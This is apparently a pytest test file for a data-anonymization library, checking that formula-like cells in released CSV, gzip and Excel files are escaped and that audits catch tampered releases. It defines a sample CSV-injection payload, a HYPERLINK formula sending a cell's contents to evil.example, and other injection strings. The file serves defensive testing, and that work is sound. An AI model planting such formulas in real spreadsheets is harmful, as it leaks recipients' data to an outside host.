"""Formulas: the attacker once filled in a form, with `=HYPERLINK(...)` for a disease. Whoever opens the
released CSV file with a spreadsheet runs it, and it sends other people's cells away. The summary counts such
cells, and `escape-formulas` puts an apostrophe before each; all audits of the file still hold.
"""

from __future__ import annotations

import csv
import gzip
import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pyarrow import parquet

import shoal
from shoal import secret
from shoal.read.formulas import escaped, formula_cells, restored
from tests.attacks.evidence import check, refit

EVIL = '=HYPERLINK("http://evil.example/?"&A1)'
DISEASES = [EVIL, "@flu", "+49 30 1", "'=old", "-5", "cold", "\tx", "flu"]
STARTS = "=+-@\t\r\n"


def spec(**settings: Any) -> shoal.Spec:
    given: dict[str, Any] = {
        "quasi_identifiers": {"phone": shoal.mask(3), "age": shoal.intervals(10)},
        "sensitive": ["disease"],
        "privacy": [shoal.KAnonymity(4), shoal.TCloseness("disease", 0.9)],
    }
    return shoal.Spec(**given | settings)


@pytest.fixture
def people() -> pa.Table:
    return pa.table({"phone": ["+49 1"] * 4 + ["+48 2"] * 4, "age": [-31] * 8, "disease": DISEASES})


def cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file))


def computed(cell: str) -> bool:
    """The rule again, by hand: what begins so is computed, and only a number is harmless."""
    try:
        float(cell)
    except ValueError:
        return cell.startswith(tuple(STARTS))
    return False


def test_the_summary_counts_them_without_showing_any(people: pa.Table, tmp_path: Path) -> None:
    release = shoal.anonymize(people, spec())
    (note,) = [note for note in release.notes if "formulas" in note]
    assert "phone 8, disease 5." in note
    assert "--escape-formulas" in note
    assert "HYPERLINK" not in release.summary()
    release = shoal.anonymize(people, spec(), output=tmp_path / "release.parquet")
    assert not [note for note in release.notes if "formulas" in note]


@pytest.mark.parametrize("engine", ["memory", "duckdb"])
def test_no_cell_of_the_file_is_computed(people: pa.Table, engine: str, tmp_path: Path) -> None:
    parquet.write_table(people, tmp_path / "people.parquet")
    path = tmp_path / "release.csv"
    release = shoal.anonymize(
        tmp_path / "people.parquet", spec(escape_formulas=True), output=path, engine=engine
    )
    assert any("apostrophe" in note and "disease 5" in note for note in release.notes)
    rows = cells(path)[1:]
    assert len(rows) == 8
    assert not any(computed(cell) for row in rows for cell in row)
    assert {row[2] for row in rows} >= {"'" + EVIL, "''=old", "-5", "cold"}
    # The publisher's audit compares with the original, recipients have the file alone.
    manifest = json.loads((tmp_path / "release.csv.manifest.json").read_text(encoding="utf-8"))
    assert manifest["spec"]["escape-formulas"] is True
    assert shoal.audit_release(path, original=people).holds
    assert all(found.holds for found in shoal.audit_release(path).findings if found.checkable)
    checker = [sys.executable, f"{path}.checker.py", str(path), f"{path}.manifest.json"]
    ran = subprocess.run(checker, capture_output=True, text=True, check=False)
    assert ran.returncode == 0, ran.stdout + ran.stderr


def test_the_checker_compares_what_was_escaped_with_a_declared_distribution(tmp_path: Path) -> None:
    """A test that is positive or negative: `+` and `-` are formulas, while `'-5` is none and stays."""
    people = pa.table({"age": [31, 33, 42, 44] * 3, "test": ["+"] * 4 + ["-"] * 4 + ["'-5", "-5", "'+", "="]})
    declared = {"+": 4, "-": 4, "'-5": 1, "-5": 1, "'+": 1, "=": 1}
    asked = shoal.Spec(
        quasi_identifiers={"age": "suppress"},
        sensitive=["test"],
        privacy=[shoal.TCloseness("test", 0.1, distance="equal", distribution=declared)],
        escape_formulas=True,
        accept={"test": "linkable"},
    )
    path = shoal.anonymize(people, asked).write(tmp_path / "release.csv")
    code, printed = check(path)
    assert (code, "largest distance 0\n" in printed) == (0, True), printed


def test_excel_and_compressed_files(people: pa.Table, tmp_path: Path) -> None:
    people = people.set_column(2, "disease", pa.array([*DISEASES[:6], "x", "flu"]))
    release = shoal.anonymize(people, spec(escape_formulas=True))
    for name in ("release.xlsx", "release.csv.gz"):
        assert shoal.audit_release(release.write(tmp_path / name), original=people).holds
    from openpyxl import load_workbook

    rows = load_workbook(tmp_path / "release.xlsx").active.iter_rows(values_only=True)  # type: ignore[union-attr]
    assert not any(computed(str(cell)) for row in rows for cell in row)
    plain = parquet.read_table(release.write(tmp_path / "release.parquet"))
    assert EVIL in plain["disease"].to_pylist()


def test_a_population_is_compared_with_what_the_labels_were(people: pa.Table, tmp_path: Path) -> None:
    town = people.select(["phone", "age"])
    asked = spec(escape_formulas=True, privacy=[shoal.KMap(4, town)])
    path = shoal.anonymize(people, asked).write(tmp_path / "release.csv")
    assert {row[0] for row in cells(path)[1:]} == {"'+49 1", "'+48 2"}
    assert shoal.audit_release(path, asked, manifest=f"{path}.manifest.json").holds


def test_an_extension_has_them_once(people: pa.Table, tmp_path: Path) -> None:
    asked = spec(escape_formulas=True, privacy=[shoal.KAnonymity(4)])
    path = shoal.anonymize(people, asked).write(tmp_path / "release.csv")
    more = shoal.extend(f"{path}.manifest.json", people, new_people=True, output=tmp_path / "more.csv")
    assert more.added_rows == 8
    found = [row[2] for row in cells(tmp_path / "more.csv")]
    assert found.count("'" + EVIL) == 2


def test_a_formula_that_was_not_escaped_is_a_label_of_its_own(people: pa.Table, tmp_path: Path) -> None:
    """The attacker leaves out the apostrophe of one cell, and the audit saw one class in place of two."""
    asked = spec(privacy=[shoal.KAnonymity(4)], escape_formulas=True).adjust(levels={"phone": 0, "age": 1})
    release = shoal.anonymize(people, asked).write(tmp_path / "release.csv")
    assert not shoal.audit_release(release).fails
    text = release.read_text(encoding="utf-8")
    assert text.count("'+48 2") == 4
    release.write_text(text.replace("'+48 2", "+48 2", 1), encoding="utf-8")
    (found, *_) = shoal.audit_release(release).findings
    assert found.measured == "smallest class 1, 2 classes fail"
    (found, *_) = shoal.audit_release(release, asked).findings
    assert found.measured == "smallest class 1, 2 classes fail"


@pytest.mark.parametrize("kind", ["csv", "csv.gz", "xlsx"])
@pytest.mark.parametrize("cell", [EVIL, "@SUM(1)", "-1+1", "\uff1d1+1"])
def test_a_live_formula_in_a_release_that_says_it_has_none(tmp_path: Path, kind: str, cell: str) -> None:
    """The attacker rewrites a cell, or a name, of a release whose manifest says `escape-formulas: true`."""
    table = pa.table({"age": [31] * 4, "note": ["=old", "-5", "-inf", "ok"]})
    if kind != "xlsx":  # which holds no infinite numbers
        table = table.append_column("number", pa.array([-1.0, float("-inf")] * 2))
    asked = shoal.Spec(
        quasi_identifiers={"age": "suppress"},
        insensitive=table.column_names[1:],
        privacy=[shoal.KAnonymity(4)],
        escape_formulas=True,
    )
    release = shoal.anonymize(table, asked).write(tmp_path / f"release.{kind}")
    assert not shoal.audit_release(release).fails
    assert kind == "xlsx" or check(release)[0] == 0
    honest = release.read_bytes()

    def renamed(said: dict[str, Any]) -> None:
        for columns in (said["spec"]["columns"], said["linkable"]["columns"]):
            columns[cell] = columns.pop("note")

    for old, change in (("'=old", lambda said: None), ("note", renamed)):
        release.write_bytes(honest)
        _replace_cell(release, old, cell)
        refit(release, change)
        found = {finding.claim: finding for finding in shoal.audit_release(release).findings}
        assert not found["cells like formulas escaped"].holds
        if kind != "xlsx":
            code, said = check(release)
            assert code == 1
            assert "cells like formulas escaped: FAILS" in said, said


def _replace_cell(release: Path, old: str, new: str) -> None:
    if release.suffix == ".xlsx":
        from openpyxl import load_workbook

        book = load_workbook(release)
        (cell,) = (cell for row in book.active.iter_rows() for cell in row if cell.value == old)
        cell.value = new
        cell.data_type = "s"
        book.save(release)
        return
    data = release.read_bytes()
    text = gzip.decompress(data) if release.suffix == ".gz" else data
    quoted = '"' + new.replace('"', '""') + '"' if '"' in new else new
    assert text.count(old.encode()) == 1
    text = text.replace(old.encode(), quoted.encode())
    release.write_bytes(gzip.compress(text, mtime=0) if release.suffix == ".gz" else text)


def test_a_label_that_is_another_in_each_row(tmp_path: Path) -> None:
    """The attacker writes one text into all rows, of which a spreadsheet makes everybody's own age."""
    table = pa.table({"age": [31] * 4, "disease": ["flu", "cold"] * 2})
    asked = shoal.Spec(
        quasi_identifiers={"age": "suppress"}, sensitive=["disease"], privacy=[shoal.KAnonymity(4)]
    ).adjust(levels={"age": 0})
    release = shoal.anonymize(table, asked).write(tmp_path / "release.csv")
    assert shoal.audit_release(release).holds
    text = release.read_text(encoding="utf-8")
    release.write_text(text.replace("31,", "=CHOOSE(ROW();0;34;35;41;57),"), encoding="utf-8", newline="\n")
    refit(release)
    audit = shoal.audit_release(release)
    assert [finding.claim for finding in audit.findings if not finding.holds] == ["labels like formulas"]
    assert "labels like formulas: NOT CHECKABLE by a recipient, in age" in audit.render()
    assert "labels like formulas: NOT CHECKABLE by a recipient" in check(release)[1]


@pytest.mark.parametrize(
    ("kind", "values"), [("decimal", ["1.50", "2.00"]), ("date", ["2024-01-31", "2024-02-29"])]
)
def test_cells_of_a_type_are_looked_at_as_text(tmp_path: Path, kind: str, values: list[str]) -> None:
    """The checker compared them as numbers, looked for formulas among these, and stopped."""
    table = pa.table({"age": [31] * 4, "paid": values * 2})
    asked = shoal.Spec(
        quasi_identifiers={"age": "suppress"},
        sensitive=["paid"],
        types={"paid": kind},
        privacy=[shoal.LDiversity("paid", 2)],
        escape_formulas=True,
    )
    code, said = check(shoal.anonymize(table, asked).write(tmp_path / "release.csv"))
    assert code == 0, said


def test_a_workbook_without_text(tmp_path: Path) -> None:
    """Only numbers, which need no apostrophes: the audit of the file to be written crashed."""
    table = pa.table({"sex": [1, 2] * 4, "income": [10, 20, 30, 40] * 2})
    asked = shoal.Spec(
        quasi_identifiers={"sex": "suppress"},
        sensitive=["income"],
        privacy=[shoal.KAnonymity(2)],
        escape_formulas=True,
    ).adjust(levels={"sex": 0})
    assert shoal.audit_release(shoal.anonymize(table, asked).write(tmp_path / "release.xlsx")).holds


def test_names_of_columns(tmp_path: Path) -> None:
    table = pa.table({"=age": [1, 1], "disease": ["flu", "flu"]})
    odd = {"quasi_identifiers": {"=age": shoal.suppress()}, "privacy": [shoal.KAnonymity(2)]}
    (note,) = [note for note in shoal.anonymize(table, spec(**odd)).notes if "formulas" in note]
    assert "'=age'" in note
    with pytest.raises(shoal.InputError, match="rename these columns"):
        shoal.anonymize(table, spec(**odd, escape_formulas=True))


def test_numbers_are_none(tmp_path: Path) -> None:
    texts = pa.table({"a": ["-5", "+1.5", "-1,5", "-2e3"], "b": [-5.0, -1.0, 2.0, None]})
    assert formula_cells(texts) == {}
    assert escaped(texts).equals(texts)


@given(st.lists(st.none() | st.text(STARTS + "'1a.", max_size=4)))
@settings(max_examples=200, deadline=None)
def test_no_two_cells_become_one_and_all_come_back(found: list[str | None]) -> None:
    for column in (pa.array(found, pa.string()), pa.array(found, pa.large_string())):
        table = pa.table({"a": column, "b": column.dictionary_encode()})
        changed = escaped(table)
        assert restored(changed).equals(table)
        assert not any(computed(cell) for cell in changed["a"].to_pylist() if cell)
        assert formula_cells(table).get("a", 0) >= sum(computed(cell) for cell in found if cell)


@pytest.mark.parametrize("kind", ["csv", "csv.gz"])
def test_a_release_that_grows(
    people: pa.Table, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, kind: str
) -> None:
    """The added rows were compared with the original as the file has them, with apostrophes: nothing held."""
    monkeypatch.setenv(secret.HOME, str(tmp_path / "home"))
    asked = spec(identifiers=["id"], escape_formulas=True)
    numbered = [people.append_column("id", pa.array([f"p{n}" for n in range(k, k + 8)])) for k in (0, 8)]
    first = shoal.anonymize(numbered[0], asked).write(tmp_path / f"first.{kind}")
    both = tmp_path / f"both.{kind}"
    shoal.extend(f"{first}.manifest.json", numbered[1], original=numbered[0], output=both)
    found = shoal.audit_release(both, original=pa.concat_tables(numbered))
    assert found.holds
    assert "difference: 0.9-closeness of disease, equal" in [finding.claim for finding in found.findings]
    assert check(both)[0] == 0
